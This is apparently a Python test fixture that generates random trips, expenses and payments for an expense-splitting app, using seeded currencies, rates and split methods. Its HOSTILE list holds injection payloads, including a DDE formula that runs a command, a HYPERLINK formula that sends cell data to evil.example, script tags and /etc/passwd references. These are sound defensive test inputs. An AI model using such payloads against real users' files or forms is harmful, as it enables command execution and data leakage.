"""Trips of any shape, by a seed: currencies, rates, ways to split, incomes, kitties, the trash, and what people type to break things."""

import datetime
import random
from decimal import Decimal

from expenses.drafts import ExpenseDraft
from expenses.services import delete_expense, record_expense
from expenses.splitting import SplitItem, SplitLine
from settlements.services import PaymentDraft, delete_payment, record_payment
from tests.factories import ParticipantFactory, TripFactory
from trips.models import Trip

BASES = ["EUR", "JPY", "KWD"]
RATES = ["0.0061", "0.92", "1.5", "163.4", "0.333333"]
# Formulas, links, markup, directions, control characters, and the signs of every format that is written.
HOSTILE = [
    "=1+1",
    "+49 151",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"free money")',
    "a;=1+1",
    'a","=1+1","b',
    "a\n=1+1\r\n+2",
    "<script>alert(1)</script>",
    "<img src=file:///etc/passwd onerror=alert(1)>",
    "file:///etc/passwd",
    "https://evil.example/",
    "\u202egnp.exe",
    "\x1b[31mred\x1b[0m\x07\x08",
    "Zoë; a comment",
    "x  ; two spaces",
    "[2020-01-01] date:2020-01-01",
    "\n    people:Zoë  5 EUR",
    "include /etc/passwd",
    "!; apply account x",
    "* (code) = | @@ {5}",
    "a:b:c",
    "(virtual)",
    "[balanced]",
    "_x0041_ & <b>",
    "12.50",
    "007",
    "TRUE",
    "*",
    "?~*",
    "家族 👨‍👩‍👧‍👦 Ελλάδα",
    "𝕿𝖗𝖎𝖕 é",
    "Total",
    "Date",
    "Amount",
    "long " * 16,
]


def random_trip(seed):
    """One trip of up to six people and a dozen rows, made by the services."""
    rnd = random.Random(seed)
    trip = TripFactory(currency=rnd.choice(BASES), name=rnd.choice(HOSTILE)[:120])
    names = rnd.sample(HOSTILE, rnd.randint(2, 6))
    people = [
        ParticipantFactory(trip=trip, name=name[:80], ref=f"-p{place}", position=place, kind="person")
        for place, name in enumerate(names)
    ]
    if rnd.random() < 0.3:
        people.append(ParticipantFactory(trip=trip, name="Purse", kind="kitty", role="viewer", position=9))
    for number in range(rnd.randint(0, 12)):
        expense = record_expense(
            trip=trip, by=people[0], draft=_expense(rnd, trip, people), ref=rnd.choice(["", f"-{number}"])
        )
        if rnd.random() < 0.15:
            delete_expense(expense=expense, by=people[0], version=1)
    for _ in range(rnd.randint(0, 4)):
        payment = record_payment(trip=trip, by=people[0], draft=_payment(rnd, trip, people))
        if rnd.random() < 0.15:
            delete_payment(payment=payment, by=people[0], version=1)
    return Trip.objects.get(pk=trip.pk)


def _money(rnd, trip):
    currency = rnd.choice([trip.currency, *BASES, "USD"])
    facts = {"currency": currency, "amount": rnd.randint(1, 5 * 10**6)}
    if currency != trip.currency:
        facts |= {"rate": Decimal(rnd.choice(RATES)), "rate_source": "trip"}
    return facts


def _expense(rnd, trip, people):
    money = _money(rnd, trip)
    payers = rnd.sample(people, min(rnd.randint(1, 3), len(people), money["amount"]))
    each, rest = divmod(money["amount"], len(payers))
    sharing = rnd.sample(people, rnd.randint(1, len(people)))
    return ExpenseDraft(
        date=datetime.date(2026, 5, rnd.randint(1, 9)),
        description=rnd.choice(HOSTILE),
        note=rnd.choice(["", *HOSTILE, "5,000 characters " * 300])[:2000],
        kind=rnd.choice(["expense", "expense", "expense", "income"]),
        category=rnd.choice(["", "food", "transport"]),
        payers={person.ref: each + (rest if place == 0 else 0) for place, person in enumerate(payers)},
        **money,
        **_split(rnd, money["amount"], [person.ref for person in sharing]),
    )


def _split(rnd, amount, refs):
    method = rnd.choice(["equal", "shares", "exact", "itemised"])
    if method == "itemised":
        items = [SplitItem(rnd.choice(HOSTILE)[:120], amount, tuple(refs))]
        return {"method": method, "lines": [SplitLine(ref) for ref in refs], "items": items}
    values = {
        "equal": lambda: [None] * len(refs),
        "shares": lambda: [str(rnd.randint(1, 5)) for _ in refs],
        "exact": lambda: [str(amount), *["0"] * (len(refs) - 1)],
    }[method]()
    return {"method": method, "lines": [SplitLine(ref, value) for ref, value in zip(refs, values, strict=True)]}


def _payment(rnd, trip, people):
    sender, receiver = rnd.sample(people, 2)
    return PaymentDraft(
        date=datetime.date(2026, 5, rnd.randint(1, 9)),
        sender=sender.ref,
        receiver=receiver.ref,
        method=rnd.choice(["", *HOSTILE])[:40],
        note=rnd.choice(["", *HOSTILE]),
        **_money(rnd, trip),
    )
